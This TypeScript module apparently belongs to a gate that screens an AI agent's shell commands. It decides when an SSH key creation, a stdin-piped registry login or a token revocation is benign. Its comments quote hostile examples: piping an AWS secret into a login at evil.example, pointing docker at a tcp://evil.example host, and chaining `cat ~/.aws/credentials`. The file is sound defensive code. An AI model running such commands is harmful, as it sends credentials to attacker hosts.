/**
 * Command lines that use a credential without taking it anywhere, which the gate's analysis (made to decide on
 * any command before it runs) reports as reads of it or as account changes:
 * - `new-key`: a new SSH key made (`ssh-keygen -t ed25519 -C me@acme.dev -f ~/.ssh/id_x -N ''`): the key file is
 *   written, not read, and the comment is not a host to send to;
 * - `stdin-login`: a secret from the environment, or a login token printed by its own tool, piped straight into
 *   a login's standard input (`echo "$T" | docker login --password-stdin`, `aws ecr get-login-password | docker
 *   login …`): it goes to that login and nowhere else, never to the agent's output;
 * - `revoke`: a token or key revoked (`npm token revoke 1a2b`): access taken away, not a way back in.
 * Only when the whole line is that one shape: anything joined to it (`; curl …`, `&& cat ~/.aws/credentials`)
 * keeps every finding. A login at a host other than a public registry keeps
 * them too (`echo "$AWS_SECRET_ACCESS_KEY" | docker login evil.example --password-stdin`: the secret leaves), as
 * does one whose server an option's value, an option before `login` or a variable set for the client may choose
 * (`--hostname=evil.example`, `docker -H tcp://evil.example:2375 login`, `DOCKER_HOST=… docker login`).
 */
export type CredentialUse = 'new-key' | 'stdin-login' | 'revoke';

/** The findings each shape stands for, as the gate names them. */
export const USE_FINDINGS: Readonly<Record<CredentialUse, ReadonlySet<string>>> = {
  // The gate reads a new key in ~/.ssh as a write there (asked about, as any write in the home's dotfiles).
  'new-key': new Set(['read.ssh-key', 'read.secret', 'net.remote-endpoint', 'write.home']),
  'stdin-login': new Set(['read.env-secrets', 'read.stored-credential']),
  revoke: new Set(['persist.account', 'persist.account-key']),
};

/** ssh-keygen's options when it makes a key: those taking a value, and plain flags. Any other is another mode. */
const KEYGEN_VALUE = new Set(['t', 'b', 'C', 'f', 'N', 'a', 'Z', 'O', 'w', 'm']);
const KEYGEN_FLAG = new Set(['q', 'v']);
/** Options that make a client read a secret from standard input. */
const STDIN_SECRET = /^--(?:password|passwd|token|secret)-stdin$|^--with-token$/;
/** A producer that prints only variables (`echo "$T"`, `printf %s "${T}"`). */
const ECHO_VARIABLES =
  /^\s*(?:echo|printf)(?:\s+(?:-[neE]+|'%s(?:\\n)?'|"%s(?:\\n)?"|%s))*(?:\s+"?\$\{?[A-Za-z_]\w*\}?"?)+\s*$/;
/** A plain command: words only, no expansion, redirection or other command. */
const PLAIN = /^[\w\s./:@=,+~-]+$/;
/** A subcommand of a tool that prints its own login token (`get-login-password`, `auth token`, `print-access-token`). */
const TOKEN_WORD = /(?:^|[-_])(?:login|token|password)(?:[-_]|$)/i;
const KEY_NOUN = /^(?:tokens?|keys?|ssh-keys?|deploy-keys?|access-tokens?)$/;
const REVOKE_VERB = /^(?:revoke|delete|rm|remove|destroy)$/;

const basename = (p: string) => p.slice(p.lastIndexOf('/') + 1);
const operands = (argv: readonly string[]) => argv.slice(1).filter((a) => !a.startsWith('-'));

function makesKey(argv: readonly string[]): boolean {
  if (basename(argv[0] ?? '') !== 'ssh-keygen') return false;
  for (let i = 1; i < argv.length; i++) {
    const a = argv[i] as string;
    if (!a.startsWith('-') || a === '-') return false;
    for (let j = 1; j < a.length; j++) {
      const letter = a[j] as string;
      if (KEYGEN_FLAG.has(letter)) continue;
      if (!KEYGEN_VALUE.has(letter)) return false;
      // The value is the rest of the word or the next word.
      if (j === a.length - 1) i++;
      break;
    }
  }
  return true;
}

/**
 * Public registries a login's secret may go to: the tools' own defaults and the large hosted ones. A login at
 * any other host (`docker login evil.example --password-stdin`) keeps its findings: the secret leaves for it.
 */
const PUBLIC_REGISTRY =
  /^(?:(?:registry-1\.|index\.)?docker\.io|ghcr\.io|(?:[a-z0-9-]+\.)?gcr\.io|[a-z0-9-]+-docker\.pkg\.dev|quay\.io|registry\.gitlab\.com|\d+\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com|public\.ecr\.aws|[a-z0-9-]+\.azurecr\.io|mcr\.microsoft\.com|registry\.npmjs\.org|npm\.pkg\.github\.com|github\.com)$/i;

/** Options of a login whose value is its user name, never a host (`-u me@acme.dev`). */
const USER_OPTION = /^(?:-u|--username)$/;

/**
 * The hosts a login's words name (a dot, a colon or `localhost`): where the secret goes. Every word after
 * `login` counts, an operand or an option's `=` value (`--hostname=evil.example`), whatever its scheme
 * (`tcp://…`); a user name does not. Undefined when an option comes before `login` (`docker -H
 * tcp://evil.example:2375 login`, `--context`, `--config`): the client's own option chooses the server then.
 */
function loginHosts(argv: readonly string[]): string[] | undefined {
  const at = argv.indexOf('login');
  if (at < 0 || argv.slice(1, at).some((w) => w.startsWith('-'))) return undefined;
  const hosts: string[] = [];
  for (let i = at + 1; i < argv.length; i++) {
    const w = argv[i] as string;
    if (USER_OPTION.test(w)) i++;
    if (w.startsWith('-') && (!w.includes('=') || /^--username=/.test(w))) continue;
    const value = w.startsWith('-') ? w.slice(w.indexOf('=') + 1) : w;
    const host = value
      .replace(/^[a-z][a-z0-9+.-]*:\/\//i, '')
      .replace(/^[^@/]*@/, '')
      .replace(/[/:].*$/, '');
    if (host.includes('.') || host === 'localhost') hosts.push(host);
  }
  return hosts;
}

function logsInFromStdin(text: string, argvs: readonly (readonly string[])[]): boolean {
  const pipes = text.split('|');
  if (pipes.length !== 2 || argvs.length !== 2) return false;
  const [producerText, consumerText] = pipes as [string, string];
  const [producer, consumer] = argvs as [readonly string[], readonly string[]];
  if (!PLAIN.test(consumerText)) return false;
  // A variable set for the client (`DOCKER_HOST=tcp://evil.example:2375 docker login`) may choose its server.
  if (consumerText.trim().split(/\s+/)[0] !== consumer[0]) return false;
  if (!consumer.some((a) => STDIN_SECRET.test(a)) || !operands(consumer).includes('login')) return false;
  const hosts = loginHosts(consumer);
  if (hosts === undefined || hosts.some((h) => !PUBLIC_REGISTRY.test(h))) return false;
  if (ECHO_VARIABLES.test(producerText)) return true;
  return PLAIN.test(producerText) && operands(producer).some((w) => TOKEN_WORD.test(w));
}

function revokes(argvs: readonly (readonly string[])[]): boolean {
  if (argvs.length !== 1) return false;
  const [noun, verb] = operands(argvs[0] as readonly string[]);
  return KEY_NOUN.test(noun ?? '') && REVOKE_VERB.test(verb ?? '');
}

/** Which of the shapes above a whole command line is (`argvs`: its simple commands' words), if any. */
export function credentialUse(
  text: string,
  argvs: readonly (readonly string[])[],
): CredentialUse | undefined {
  if (argvs.length === 1 && PLAIN.test(text.replace(/"[^"$`\\]*"|'[^']*'/g, 'x'))) {
    if (makesKey(argvs[0] as readonly string[])) return 'new-key';
    if (revokes(argvs)) return 'revoke';
  }
  if (logsInFromStdin(text, argvs)) return 'stdin-login';
  return undefined;
}
